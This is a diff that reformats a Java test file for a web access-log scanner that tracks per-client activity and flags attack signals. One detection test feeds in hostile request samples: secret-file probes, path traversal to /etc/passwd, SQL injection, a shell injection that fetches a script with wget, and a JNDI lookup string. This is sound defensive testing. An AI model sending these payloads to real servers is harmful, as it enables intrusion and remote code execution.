@@ -19,14 +19,17 @@ import static org.assertj.core.api.Assertions.assertThat;
 class ClientActivityTest {
 
     private static String line(String ip, String time, String request, int status, String size, String agent) {
-        return ip + " - - [" + time + " +0000] \"" + request + "\" " + status + " " + size + " \"-\" \"" + agent + "\"\n";
+        return ip + " - - [" + time + " +0000] \"" + request + "\" " + status + " " + size + " \"-\" \"" + agent
+                + "\"\n";
     }
 
-    private static final java.time.format.DateTimeFormatter CLF_TIME = java.time.format.DateTimeFormatter
-            .ofPattern("dd/MMM/yyyy:HH:mm:ss", java.util.Locale.ENGLISH).withZone(java.time.ZoneOffset.UTC);
+    private static final java.time.format.DateTimeFormatter CLF_TIME = java.time.format.DateTimeFormatter.ofPattern(
+                    "dd/MMM/yyyy:HH:mm:ss", java.util.Locale.ENGLISH)
+            .withZone(java.time.ZoneOffset.UTC);
 
     /** The series must start at the first hour with a request and hold every hour's count up to the last. */
-    private static void assertSeries(ActivityDetail detail, Instant base, java.util.TreeMap<Integer, Integer> hours, String client) {
+    private static void assertSeries(
+            ActivityDetail detail, Instant base, java.util.TreeMap<Integer, Integer> hours, String client) {
         int first = hours.firstKey();
         int[] series = new int[hours.lastKey() - first + 1];
         hours.forEach((hour, count) -> series[hour - first] = count);
@@ -55,11 +58,15 @@ class ClientActivityTest {
         assertThat(activity.requests()).isEqualTo(6);
         assertThat(activity.bytes()).isEqualTo(2015);
         ActivityDetail detail = activity.detail();
-        assertThat(detail.statusClasses()).containsExactly(Map.entry("2xx", 2L), Map.entry("3xx", 1L), Map.entry("4xx", 2L), Map.entry("5xx", 1L));
-        assertThat(detail.methods()).containsExactly(Map.entry("GET", 4L), Map.entry("POST", 1L), Map.entry("OTHER", 1L));
+        assertThat(detail.statusClasses())
+                .containsExactly(
+                        Map.entry("2xx", 2L), Map.entry("3xx", 1L), Map.entry("4xx", 2L), Map.entry("5xx", 1L));
+        assertThat(detail.methods())
+                .containsExactly(Map.entry("GET", 4L), Map.entry("POST", 1L), Map.entry("OTHER", 1L));
         assertThat(detail.topPaths()).first().isEqualTo(new TopN.Entry("/index.html", 2));
         assertThat(detail.topPaths()).hasSize(5);
-        assertThat(detail.topUserAgents()).containsExactly(new TopN.Entry("Mozilla/5.0", 5), new TopN.Entry("curl/8.5.0", 1));
+        assertThat(detail.topUserAgents())
+                .containsExactly(new TopN.Entry("Mozilla/5.0", 5), new TopN.Entry("curl/8.5.0", 1));
         assertThat(activity.signals()).isEmpty();
     }
 
@@ -91,7 +98,13 @@ class ClientActivityTest {
             int variant = random.nextInt(2);
             String agent = "agent-" + client + "-" + variant + " " + "x".repeat(client % 100 + variant);
             int size = random.nextInt(5000);
-            log.append(line(ip, "27/Nov/2026:10:00:00", "GET " + path + "?q=" + i + " HTTP/1.1", 200, String.valueOf(size), agent));
+            log.append(line(
+                    ip,
+                    "27/Nov/2026:10:00:00",
+                    "GET " + path + "?q=" + i + " HTTP/1.1",
+                    200,
+                    String.valueOf(size),
+                    agent));
             expectedPaths.computeIfAbsent(ip, k -> new java.util.HashMap<>()).merge(path, 1L, Long::sum);
             expectedAgents.computeIfAbsent(ip, k -> new java.util.HashMap<>()).merge(agent, 1L, Long::sum);
             expectedBytes.merge(ip, (long) size, Long::sum);
@@ -103,12 +116,19 @@ class ClientActivityTest {
         expectedPaths.forEach((ip, paths) -> {
             ClientActivity activity = of(scan, ip);
             assertThat(activity.bytes()).as(ip).isEqualTo(expectedBytes.get(ip));
-            assertThat(activity.detail().topPaths()).as(ip)
+            assertThat(activity.detail().topPaths())
+                    .as(ip)
                     .containsExactlyInAnyOrderElementsOf(paths.entrySet().stream()
-                            .map(e -> new TopN.Entry(e.getKey(), e.getValue())).toList());
-            assertThat(activity.detail().topUserAgents()).as(ip)
+                            .map(e -> new TopN.Entry(e.getKey(), e.getValue()))
+                            .toList());
+            assertThat(activity.detail().topUserAgents())
+                    .as(ip)
                     .containsExactlyInAnyOrderElementsOf(expectedAgents.get(ip).entrySet().stream()
-                            .map(e -> new TopN.Entry(e.getKey().substring(0, Math.min(200, e.getKey().length())), e.getValue()))
+                            .map(e -> new TopN.Entry(
+                                    e.getKey()
+                                            .substring(
+                                                    0, Math.min(200, e.getKey().length())),
+                                    e.getValue()))
                             .toList());
         });
     }
@@ -122,7 +142,8 @@ class ClientActivityTest {
                 log.append(line("185.220.101.8", "27/Nov/2026:10:00:00", "GET /wp-login.php HTTP/1.1", 404, "0", "x"));
             }
         }
-        ActivityDetail detail = of(scan(log.toString(), ScanOptions.defaults()), "185.220.101.8").detail();
+        ActivityDetail detail = of(scan(log.toString(), ScanOptions.defaults()), "185.220.101.8")
+                .detail();
         assertThat(detail.topPaths().get(0).value()).isEqualTo("/wp-login.php");
         assertThat(detail.topPaths().get(0).count()).isGreaterThanOrEqualTo(100);
     }
@@ -132,28 +153,58 @@ class ClientActivityTest {
         String ip = "45.155.205.233";
         String log = line(ip, "27/Nov/2026:10:00:00", "GET /.env HTTP/1.1", 404, "0", "Mozilla/5.0")
                 + line(ip, "27/Nov/2026:10:00:01", "GET /.git/config HTTP/1.1", 404, "0", "Mozilla/5.0")
-                + line(ip, "27/Nov/2026:10:00:02", "GET /cgi-bin/..%2F..%2F..%2Fetc/passwd HTTP/1.1", 400, "0", "Mozilla/5.0")
-                + line(ip, "27/Nov/2026:10:00:03", "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1", 500, "0", "sqlmap/1.7.2#stable (https://sqlmap.org)")
-                + line(ip, "27/Nov/2026:10:00:04", "GET /ping?host=127.0.0.1;wget%20http://x/s.sh HTTP/1.1", 200, "0", "Mozilla/5.0")
+                + line(
+                        ip,
+                        "27/Nov/2026:10:00:02",
+                        "GET /cgi-bin/..%2F..%2F..%2Fetc/passwd HTTP/1.1",
+                        400,
+                        "0",
+                        "Mozilla/5.0")
+                + line(
+                        ip,
+                        "27/Nov/2026:10:00:03",
+                        "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1",
+                        500,
+                        "0",
+                        "sqlmap/1.7.2#stable (https://sqlmap.org)")
+                + line(
+                        ip,
+                        "27/Nov/2026:10:00:04",
+                        "GET /ping?host=127.0.0.1;wget%20http://x/s.sh HTTP/1.1",
+                        200,
+                        "0",
+                        "Mozilla/5.0")
                 + line(ip, "27/Nov/2026:10:00:05", "GET / HTTP/1.1", 200, "0", "${jndi:ldap://198.51.100.9:1389/a}")
-                + line(ip, "27/Nov/2026:10:00:06", "POST /wp-login.php HTTP/1.1", 200, "0", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)");
+                + line(
+                        ip,
+                        "27/Nov/2026:10:00:06",
+                        "POST /wp-login.php HTTP/1.1",
+                        200,
+                        "0",
+                        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)");
         ClientActivity activity = of(scan(log, ScanOptions.defaults()), ip);
-        assertThat(activity.signals()).containsOnly(
-                Map.entry(Signal.SENSITIVE_FILE_PROBE, 2),
-                Map.entry(Signal.PATH_TRAVERSAL, 1),
-                Map.entry(Signal.ADMIN_PROBE, 2),
-                Map.entry(Signal.SQL_INJECTION, 1),
-                Map.entry(Signal.SCANNER_USER_AGENT, 2),
-                Map.entry(Signal.SHELL_INJECTION, 1),
-                Map.entry(Signal.JNDI_INJECTION, 1));
+        assertThat(activity.signals())
+                .containsOnly(
+                        Map.entry(Signal.SENSITIVE_FILE_PROBE, 2),
+                        Map.entry(Signal.PATH_TRAVERSAL, 1),
+                        Map.entry(Signal.ADMIN_PROBE, 2),
+                        Map.entry(Signal.SQL_INJECTION, 1),
+                        Map.entry(Signal.SCANNER_USER_AGENT, 2),
+                        Map.entry(Signal.SHELL_INJECTION, 1),
+                        Map.entry(Signal.JNDI_INJECTION, 1));
         assertThat(activity.signalWeight()).isEqualTo(10);
     }
 
     @Test
     void ordinaryBrowsingRaisesNoSignal() throws IOException {
         String ip = "93.184.216.34";
-        String log = line(ip, "27/Nov/2026:10:00:00", "GET /products/select-a-size?color=blue HTTP/1.1", 200, "10",
-                "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15")
+        String log = line(
+                        ip,
+                        "27/Nov/2026:10:00:00",
+                        "GET /products/select-a-size?color=blue HTTP/1.1",
+                        200,
+                        "10",
+                        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15")
                 + line(ip, "27/Nov/2026:10:00:01", "GET /static/app.3f9a.js HTTP/2.0", 200, "10", "Mozilla/5.0")
                 + line(ip, "27/Nov/2026:10:00:02", "GET /blog/union-station-review HTTP/1.1", 200, "10", "Mozilla/5.0");
         assertThat(of(scan(log, ScanOptions.defaults()), ip).signals()).isEmpty();
@@ -182,7 +233,13 @@ class ClientActivityTest {
         for (int i = 0; i < 6_000; i++) {
             String ip = "198.18.0." + random.nextInt(40);
             int hour = random.nextInt(600);
-            log.append(line(ip, CLF_TIME.format(base.plusSeconds(hour * 3600L + random.nextInt(3600))), "GET / HTTP/1.1", 200, "1", "x"));
+            log.append(line(
+                    ip,
+                    CLF_TIME.format(base.plusSeconds(hour * 3600L + random.nextInt(3600))),
+                    "GET / HTTP/1.1",
+                    200,
+                    "1",
+                    "x"));
             expected.computeIfAbsent(ip, k -> new java.util.TreeMap<>()).merge(hour, 1, Integer::sum);
         }
         TrafficScan scan = scan(log.toString(), ScanOptions.defaults());
@@ -207,7 +264,13 @@ class ClientActivityTest {
             int hour = random.nextInt(6) == 0 ? Math.max(0, now - random.nextInt(960)) : now;
             // Clients come and go, so a request from weeks back can land before a client's first hour.
             String ip = "198.18.1." + (now / 50 + random.nextInt(4));
-            log.append(line(ip, CLF_TIME.format(base.plusSeconds(hour * 3600L + random.nextInt(3600))), "GET / HTTP/1.1", 200, "1", "x"));
+            log.append(line(
+                    ip,
+                    CLF_TIME.format(base.plusSeconds(hour * 3600L + random.nextInt(3600))),
+                    "GET / HTTP/1.1",
+                    200,
+                    "1",
+                    "x"));
             expected.computeIfAbsent(ip, k -> new WindowedSeries()).add(hour);
         }
         // A small hour log is sorted into the series hundreds of times, mid-hour and between a client's hours.
@@ -215,10 +278,14 @@ class ClientActivityTest {
                 .scan(new ByteArrayInputStream(log.toString().getBytes(StandardCharsets.UTF_8)));
 
         expected.forEach((ip, series) -> assertSeries(of(scan, ip).detail(), base, series.counts, ip));
-        long dropped = expected.values().stream().mapToLong(series -> series.dropped).sum();
-        assertThat(dropped).as("the log must push some requests out of their window").isPositive();
-        assertThat(scan.truncated()).contains("hourly: " + dropped + " requests fell outside an IP's "
-                + ActivityContext.MAX_HOURS + "-hour window and are not charted (still counted)");
+        long dropped =
+                expected.values().stream().mapToLong(series -> series.dropped).sum();
+        assertThat(dropped)
+                .as("the log must push some requests out of their window")
+                .isPositive();
+        assertThat(scan.truncated())
+                .contains("hourly: " + dropped + " requests fell outside an IP's " + ActivityContext.MAX_HOURS
+                        + "-hour window and are not charted (still counted)");
     }
 
     /** The window rule, request by request in arrival order. */
@@ -228,8 +295,9 @@ class ClientActivityTest {
 
         void add(int hour) {
             boolean fits = counts.isEmpty()
-                    || (hour < counts.firstKey() ? counts.lastKey() - hour + 1 <= ActivityContext.MAX_HOURS
-                    : hour - counts.firstKey() < ActivityContext.MAX_HOURS);
+                    || (hour < counts.firstKey()
+                            ? counts.lastKey() - hour + 1 <= ActivityContext.MAX_HOURS
+                            : hour - counts.firstKey() < ActivityContext.MAX_HOURS);
             if (fits) {
                 counts.merge(hour, 1, Integer::sum);
             } else {
@@ -252,8 +320,10 @@ class ClientActivityTest {
             String time = CLF_TIME.format(base.plusSeconds(hour * 3600L));
             for (int client = 0; client < 3_000; client++) {
                 if (random.nextInt(4) == 0) {
-                    log.append(line("10.1." + (client / 256) + "." + (client % 256), time, "GET / HTTP/1.1", 200, "1", "x"));
-                    expected.computeIfAbsent(client, k -> new java.util.TreeMap<>()).merge(hour, 1, Integer::sum);
+                    log.append(line(
+                            "10.1." + (client / 256) + "." + (client % 256), time, "GET / HTTP/1.1", 200, "1", "x"));
+                    expected.computeIfAbsent(client, k -> new java.util.TreeMap<>())
+                            .merge(hour, 1, Integer::sum);
                 }
             }
         }
@@ -279,10 +349,12 @@ class ClientActivityTest {
 
         assertThat(of(scan, ip).requests()).isEqualTo(3);
         assertThat(of(scan, ip).detail().hourly()).containsExactly(1, 0, 1);
-        assertThat(Instant.ofEpochSecond(of(scan, ip).detail().hourlyStart())).isEqualTo(Instant.parse("2026-11-27T10:00:00Z"));
+        assertThat(Instant.ofEpochSecond(of(scan, ip).detail().hourlyStart()))
+                .isEqualTo(Instant.parse("2026-11-27T10:00:00Z"));
         assertThat(of(scan, "198.51.100.78").detail().hourly()).containsExactly(1, 1);
-        assertThat(scan.truncated()).contains("hourly: 1 requests fell outside an IP's "
-                + ActivityContext.MAX_HOURS + "-hour window and are not charted (still counted)");
+        assertThat(scan.truncated())
+                .contains("hourly: 1 requests fell outside an IP's " + ActivityContext.MAX_HOURS
+                        + "-hour window and are not charted (still counted)");
     }
 
     @Test
@@ -302,7 +374,8 @@ class ClientActivityTest {
         assertThat(of(scan, "198.51.100.4").requests()).isEqualTo(2);
         // The same IPv6 client written three ways: compressed, in full and bracketed, with its IPv4 tail.
         assertThat(of(scan, "2001:db8::c633:6404").requests()).isEqualTo(3);
-        assertThat(scan.clients().keySet()).extracting(Object::toString)
+        assertThat(scan.clients().keySet())
+                .extracting(Object::toString)
                 .containsExactlyInAnyOrder("0.0.0.1", "::1", "198.51.100.4", "2001:db8::c633:6404");
     }
 
@@ -311,14 +384,29 @@ class ClientActivityTest {
         StringBuilder log = new StringBuilder();
         for (int round = 0; round < 2; round++) {
             for (int i = 0; i < 5_000; i++) {
-                log.append(line("2001:db8::" + Integer.toHexString(i), "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x"));
-                log.append(line("10.7." + (i / 256) + "." + (i % 256), "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x"));
+                log.append(line(
+                        "2001:db8::" + Integer.toHexString(i),
+                        "27/Nov/2026:10:00:00",
+                        "GET / HTTP/1.1",
+                        200,
+                        "1",
+                        "x"));
+                log.append(line(
+                        "10.7." + (i / 256) + "." + (i % 256),
+                        "27/Nov/2026:10:00:00",
+                        "GET / HTTP/1.1",
+                        200,
+                        "1",
+                        "x"));
             }
         }
         TrafficScan scan = scan(log.toString(), ScanOptions.defaults());
         assertThat(scan.clients()).hasSize(10_000);
-        assertThat(scan.clients().entrySet()).hasSize(10_000)
-                .allSatisfy(entry -> assertThat(entry.getValue().requests()).as(entry.getKey().toString()).isEqualTo(2));
+        assertThat(scan.clients().entrySet())
+                .hasSize(10_000)
+                .allSatisfy(entry -> assertThat(entry.getValue().requests())
+                        .as(entry.getKey().toString())
+                        .isEqualTo(2));
         assertThat(of(scan, "2001:db8::1387").requests()).isEqualTo(2);
         assertThat(of(scan, "10.7.19.135").requests()).isEqualTo(2);
     }
@@ -331,11 +419,15 @@ class ClientActivityTest {
         StringBuilder log = new StringBuilder(flood.length() * 70_001);
         log.append(line(ip, "27/Nov/2026:09:59:59", "GET / HTTP/1.1", 200, "1", "x"));
         log.append(flood.repeat(70_000));
-        ActivityDetail detail = of(scan(log.toString(), ScanOptions.defaults()), ip).detail();
+        ActivityDetail detail =
+                of(scan(log.toString(), ScanOptions.defaults()), ip).detail();
         assertThat(detail.hourly()).containsExactly(1, 70_000);
         // An hour's 70,000 take two entries of the hour log; with room for one, it fills between them.
-        ActivityDetail split = of(new LogScanner(ScanOptions.defaults(), 1)
-                .scan(new ByteArrayInputStream(log.toString().getBytes(StandardCharsets.UTF_8))), ip).detail();
+        ActivityDetail split = of(
+                        new LogScanner(ScanOptions.defaults(), 1)
+                                .scan(new ByteArrayInputStream(log.toString().getBytes(StandardCharsets.UTF_8))),
+                        ip)
+                .detail();
         assertThat(split.hourly()).containsExactly(1, 70_000);
     }
 
@@ -343,16 +435,20 @@ class ClientActivityTest {
     void keepsCountingEveryIpPastTheDetailCapAndSaysSo() throws IOException {
         StringBuilder log = new StringBuilder();
         for (int i = 0; i < 50; i++) {
-            log.append(line("185.220." + (100 + i) + ".1", "27/Nov/2026:10:00:00", "GET /.env HTTP/1.1", 404, "0", "x"));
+            log.append(
+                    line("185.220." + (100 + i) + ".1", "27/Nov/2026:10:00:00", "GET /.env HTTP/1.1", 404, "0", "x"));
         }
-        TrafficScan scan = scan(log.toString(), ScanOptions.defaults().withCaps(10, ScanOptions.DEFAULT_MAX_UNCOMPRESSED_BYTES));
+        TrafficScan scan =
+                scan(log.toString(), ScanOptions.defaults().withCaps(10, ScanOptions.DEFAULT_MAX_UNCOMPRESSED_BYTES));
         assertThat(scan.clients()).hasSize(50);
-        assertThat(scan.clients().values().stream().filter(a -> a.detail() != null)).hasSize(10);
+        assertThat(scan.clients().values().stream().filter(a -> a.detail() != null))
+                .hasSize(10);
         assertThat(scan.clients().values()).allSatisfy(a -> {
             assertThat(a.requests()).isEqualTo(1);
             assertThat(a.signals()).containsEntry(Signal.SENSITIVE_FILE_PROBE, 1);
         });
-        assertThat(scan.truncated()).anySatisfy(note -> assertThat(note).startsWith("activity:").contains("40 more IPs"));
+        assertThat(scan.truncated())
+                .anySatisfy(note -> assertThat(note).startsWith("activity:").contains("40 more IPs"));
     }
 
     @Test
@@ -360,13 +456,15 @@ class ClientActivityTest {
         ByteArrayOutputStream compressed = new ByteArrayOutputStream();
         byte[] zeros = new byte[1 << 20];
         try (GZIPOutputStream gzip = new GZIPOutputStream(compressed)) {
-            gzip.write(line("185.220.101.10", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x").getBytes(StandardCharsets.US_ASCII));
+            gzip.write(line("185.220.101.10", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
+                    .getBytes(StandardCharsets.US_ASCII));
             for (int i = 0; i < 64; i++) {
                 gzip.write(zeros);
             }
         }
         assertThat(compressed.size()).isLessThan(200_000);
-        TrafficScan scan = new LogScanner(ScanOptions.defaults().withLimits(1024, 20, 10).withCaps(100, 8L << 20))
+        TrafficScan scan = new LogScanner(
+                        ScanOptions.defaults().withLimits(1024, 20, 10).withCaps(100, 8L << 20))
                 .scan(new ByteArrayInputStream(compressed.toByteArray()));
         assertThat(scan.inputError()).contains("reading stopped after 8388608 uncompressed bytes");
         assertThat(scan.truncated()).anySatisfy(note -> assertThat(note).startsWith("input:"));
